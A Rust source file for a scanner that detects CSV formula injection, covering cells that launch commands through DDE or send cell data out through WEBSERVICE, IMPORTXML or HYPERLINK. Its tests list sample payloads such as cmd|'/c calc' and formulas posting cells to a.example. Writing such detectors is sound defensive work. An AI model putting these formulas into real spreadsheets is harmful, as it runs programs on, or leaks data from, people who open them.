//! Formulas in text tables that start a program or send something away when a spreadsheet opens them.
//!
//! The separator is not known beforehand, it depends on the settings of who opens the table: a cell starts behind each
//! of the usual ones, and a formula goes on over those that stand within its parentheses and quotes. One pass.

use std::borrow::Cow;

use super::{Analyzer, Findings, Found, Look, Sees};
use crate::formats::remote_reference;
use crate::knowledge::LinkLists;
use crate::model::{Artifact, Kind};
use crate::text;

/// Its row in the table.
pub(super) const ROW: Analyzer = Analyzer {
    name: "csv",
    // A text of one line is a table by its name only, and a spreadsheet asks for no other mark.
    kinds: &[
        Kind::Csv,
        Kind::Text,
        Kind::Data,
        Kind::Email,
        Kind::Css,
        Kind::Ics,
        Kind::Json,
        Kind::Ldif,
        Kind::Vcf,
        Kind::Xml,
        Kind::Rtf,
        Kind::Html,
        Kind::Svg,
        Kind::Eml,
        Kind::Mht,
        Kind::Mbox,
        Kind::Cert,
        Kind::Pdf,
        Kind::Ps,
        Kind::Uue,
        Kind::BinHex,
        Kind::VbaSource,
        Kind::Php,
        Kind::Sh,
        Kind::Bat,
        Kind::Js,
        Kind::Url,
        Kind::Inf,
        Kind::Reg,
    ],
    sees: Sees::Place,
    findings: &["csv-formula-injection"],
    run,
};

/// Reports `csv-formula-injection`: the cell, and where it starts.
fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
    let artifact = look.artifact;
    let first = artifact
        .same_as
        .is_some_and(|first| findings.has(first, "csv-formula-injection"));
    if first || !is_table(artifact, &look.knowledge.links) {
        return;
    }
    let text = text::to_utf8(&artifact.data);
    let mark = match &text {
        Cow::Borrowed(text) => Some(artifact.data.len().saturating_sub(text.len())),
        Cow::Owned(_) => None,
    };
    for (at, formula) in
        Cells::of(&text).filter(|(_, formula)| is_dangerous(formula, &look.knowledge.links))
    {
        let mut found = Found::new("csv-formula-injection", &formula);
        if let Some(mark) = mark {
            found = found.at(at.saturating_add(mark));
        }
        findings.report(found);
    }
}

/// Where in a table the cells start that run a command or send something away.
pub fn dangerous_cells(text: &str, lists: &LinkLists) -> Vec<usize> {
    Cells::of(text)
        .filter(|(_, formula)| is_dangerous(formula, lists))
        .map(|(at, _)| at)
        .collect()
}

/// Whether a spreadsheet would open it as a table: by its look, or by its name.
fn is_table(artifact: &Artifact, lists: &LinkLists) -> bool {
    artifact.reads_as(Kind::Csv)
        || artifact.name.as_ref().is_some_and(|name| {
            name.extensions()
                .any(|extension| lists.table_extensions.contains(&extension))
        })
}

/// The cells of a table that a spreadsheet may take for a formula, without quotes around them.
struct Cells<'t> {
    text: &'t str,
    at: usize,
}

impl<'t> Cells<'t> {
    fn of(text: &'t str) -> Self {
        Self { text, at: 0 }
    }

    /// Takes characters while they are blank, but no separator and no line's end.
    fn pass_blanks(&mut self) {
        let rest = self.rest();
        let blank =
            |c: char| c == ' ' || c == '\u{a0}' || c == '\u{3000}' || c == '\u{feff}' || c == '\0';
        self.at = self.at.saturating_add(
            rest.len()
                .saturating_sub(rest.trim_start_matches(blank).len()),
        );
    }

    fn rest(&self) -> &'t str {
        self.text.get(self.at..).unwrap_or_default()
    }

    /// A cell in quotes, its doubled quotes made single; the place behind it.
    fn quoted(&mut self) -> Cow<'t, str> {
        let body = self.rest().get(1..).unwrap_or_default();
        let mut from = 0usize;
        let mut doubled = false;
        let end = loop {
            let rest = body.get(from..).unwrap_or_default();
            let Some(quote) = memchr::memchr(b'"', rest.as_bytes()) else {
                break body.len();
            };
            let at = from.saturating_add(quote);
            let next = at.saturating_add(1);
            if body.as_bytes().get(next) != Some(&b'"') {
                break at;
            }
            doubled = true;
            from = next.saturating_add(1);
        };
        self.at = self
            .at
            .saturating_add(end)
            .saturating_add(2)
            .min(self.text.len());
        let cell = body.get(..end).unwrap_or_default();
        if doubled {
            Cow::Owned(cell.replace("\"\"", "\""))
        } else {
            Cow::Borrowed(cell)
        }
    }

    /// A formula without quotes around it, to the separator that ends it.
    fn formula(&mut self) -> &'t str {
        let rest = self.rest();
        let mut depth = 0u32;
        let mut quote = None;
        let mut end = rest.len();
        for (at, byte) in rest.bytes().enumerate() {
            match byte {
                b'\r' | b'\n' => {
                    end = at;
                    break;
                }
                b'"' | b'\'' => {
                    quote = match quote {
                        None => Some(byte),
                        Some(open) if open == byte => None,
                        other => other,
                    };
                }
                _ if quote.is_some() => {}
                b'(' => depth = depth.saturating_add(1),
                b')' => depth = depth.saturating_sub(1),
                b',' | b';' | b'\t' if depth == 0 => {
                    end = at;
                    break;
                }
                _ => {}
            }
        }
        self.at = self.at.saturating_add(end);
        rest.get(..end).unwrap_or_default()
    }

    /// Goes behind the next separator or line's end.
    fn pass_separator(&mut self) {
        let rest = self.rest().as_bytes();
        let end = rest
            .iter()
            .position(|byte| matches!(byte, b',' | b';' | b'\t' | b'\r' | b'\n'));
        self.at = match end {
            Some(end) => self.at.saturating_add(end).saturating_add(1),
            None => self.text.len(),
        };
    }
}

impl<'t> Iterator for Cells<'t> {
    type Item = (usize, Cow<'t, str>);

    /// Ends because each turn takes a separator at least.
    fn next(&mut self) -> Option<Self::Item> {
        while self.at < self.text.len() {
            self.pass_blanks();
            let start = self.at;
            let cell = match self.rest().chars().next() {
                Some('"') => Some(self.quoted()).filter(|cell| starts_formula(cell)),
                Some(c) if starts(c) => Some(Cow::Borrowed(self.formula())),
                _ => None,
            };
            self.pass_separator();
            if let Some(cell) = cell {
                return Some((start, cell));
            }
        }
        None
    }
}

/// Whether a character makes a formula of what it stands in front of; Japanese and Chinese keyboards have wide ones.
fn starts(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠')
}

fn starts_formula(cell: &str) -> bool {
    let is_blank = |c: char| c.is_whitespace() || c.is_control() || matches!(c, '"' | '\u{feff}');
    cell.trim_start_matches(is_blank).starts_with(starts)
}

/// Whether a formula runs a command or sends something away.
fn is_dangerous(formula: &str, lists: &LinkLists) -> bool {
    if formula.contains('|') && !remote_reference::find(formula).is_empty() {
        return true;
    }
    formula.contains('(') && calls(formula, lists)
}

/// Whether a formula calls a function that fetches: outside of its texts, and `HYPERLINK` only where its address is
/// put together from cells.
fn calls(formula: &str, lists: &LinkLists) -> bool {
    let mut links = false;
    let mut joins = false;
    for (place, part) in formula.split('"').enumerate() {
        // Every other part is a text.
        if place % 2 == 1 {
            continue;
        }
        joins |= part.contains('&');
        for (at, _) in part.match_indices('(') {
            let before = part.get(..at).unwrap_or_default().trim_end();
            let longest = before.len().saturating_sub(32);
            let before = before
                .get(before.ceil_char_boundary(longest)..)
                .unwrap_or_default();
            let word = before
                .rsplit(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '.' | '_'))
                .next();
            let word = word.unwrap_or_default().to_ascii_lowercase();
            let word = word.strip_prefix("_xlfn.").unwrap_or(&word);
            if lists.fetching_functions.contains(word) {
                return true;
            }
            links |= word == "hyperlink";
            joins |= matches!(word, "concatenate" | "concat" | "textjoin");
        }
    }
    links && joins && formula.contains("//")
}

#[cfg(test)]
mod tests {
    use super::super::tests as testing;
    use super::*;
    use crate::model::Name;

    fn found(table: &[u8]) -> Vec<(String, Option<usize>)> {
        let mut artifact = testing::holding(Kind::Text, table);
        artifact.name = Some(Name::of("table.csv"));
        let (found, _) = testing::run(run, &[artifact]);
        found
            .into_iter()
            .map(|one| (one.evidence.text, one.evidence.offset))
            .collect()
    }

    #[test]
    fn commands_are_found_in_any_quoting_and_between_any_separators() {
        for table in [
            "a,b\n1,=cmd|'/c calc'!A0\n",
            "=cmd|'/c calc, then'!A0",
            "a;\"=cmd|'/c calc'!A0\"",
            "a\t\" \t=cmd|'/c \"\"calc\"\"'!A0\"",
            "\u{feff}+2+cmd|' /C calc'!A0",
            "x, @SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|'/c calc'!A0",
            "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s'!''",
            "＝cmd|'/c calc'!A0",
            "=DDE(\"cmd\";\"/c calc\";\"x\")",
            "=WEBSERVICE(CONCATENATE(\"http://a.example/?\",A1))",
            "=IF(1,_xlfn.webservice (\"http://a.example/\"&A1),0)",
            "=HYPERLINK(\"http://a.example/?x=\"&A1&A2,\"Details\")",
            "=IMPORTXML(\"http://a.example\",\"//a\")",
        ] {
            assert_eq!(found(table.as_bytes()).len(), 1, "{table}");
            let wide: Vec<u8> = [0xff, 0xfe]
                .into_iter()
                .chain(table.encode_utf16().flat_map(u16::to_le_bytes))
                .collect();
            assert_eq!(found(&wide).len(), 1, "{table} in UTF-16");
        }
        assert_eq!(
            found(b"a,b\r\n1,=cmd|'/c x'!A0\r\n"),
            [("=cmd|'/c x'!A0".to_owned(), Some(7))]
        );
    }

    #[test]
    fn formulas_numbers_and_telephones_are_none() {
        let table = "=SUM(A1:A9),-5,+81-3-1234-5678,@taro,=A1+B1\n- a note|hello!,\"=HYPERLINK(\"\"http://a.example\"\",\"\"Shop & more\"\")\"\n\
                     +1 (555) 0100,-|-,-webservice.example,\"a =cmd|'/c calc'!A0\",=\"cmd|'/c calc'!A0\"\n- (see import data),'=1\n";
        assert_eq!(found(table.as_bytes()), []);
        assert_eq!(found(b""), []);
        assert_eq!(found(b"\"=never closed"), []);
    }

    #[test]
    fn a_text_is_a_table_by_its_name_only() {
        let text = testing::holding(Kind::Text, b"=cmd|'/c calc'!A0");
        assert_eq!(testing::run(run, &[text]).0.len(), 0);
        let table = testing::holding(Kind::Csv, b"=cmd|'/c calc'!A0");
        assert_eq!(testing::run(run, &[table]).0.len(), 1);
        let named = |kind: Kind, name: &str| {
            let mut table = testing::holding(kind, b"x\n=cmd|'/c calc'!A0");
            table.name = Some(Name::of(name));
            testing::run(run, &[table]).0.len()
        };
        assert_eq!(named(Kind::Vcf, "a.csv"), 1);
        assert_eq!(named(Kind::Cert, "a.prn"), 1);
        assert_eq!(named(Kind::Vcf, "a.vcf"), 0);
    }
}
